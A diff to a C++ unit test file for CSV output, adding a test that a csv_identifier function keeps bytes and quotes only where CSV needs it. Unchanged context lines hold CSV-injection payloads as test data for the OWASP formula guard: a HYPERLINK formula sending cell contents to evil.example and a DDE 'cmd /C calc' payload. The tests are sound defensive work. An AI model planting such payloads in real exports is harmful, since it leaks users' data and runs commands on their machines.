@@ -51,6 +51,15 @@ TEST(CsvField, keeps_a_row_on_one_line) {
 }
 
 // OWASP "CSV Injection": prefix ' to a field starting with = + - @ tab or CR, and quote.
+TEST(CsvIdentifier, keeps_every_byte_and_quotes_only_where_csv_needs_it) {
+  EXPECT_EQ(csv_identifier("-rf"), "-rf");
+  EXPECT_EQ(csv_identifier("=1+1"), "=1+1");
+  EXPECT_EQ(csv_identifier("a,b"), "\"a,b\"");
+  EXPECT_EQ(csv_identifier("a\"b"), "\"a\"\"b\"");
+  EXPECT_EQ(csv_identifier("two\nlines"), "\"two\nlines\"");
+  EXPECT_EQ(csv_identifier(" x"), "\" x\"");
+}
+
 TEST(CsvField, guards_formulas_by_the_owasp_rule) {
   EXPECT_EQ(csv_field(kFormula), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
   EXPECT_EQ(csv_field("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
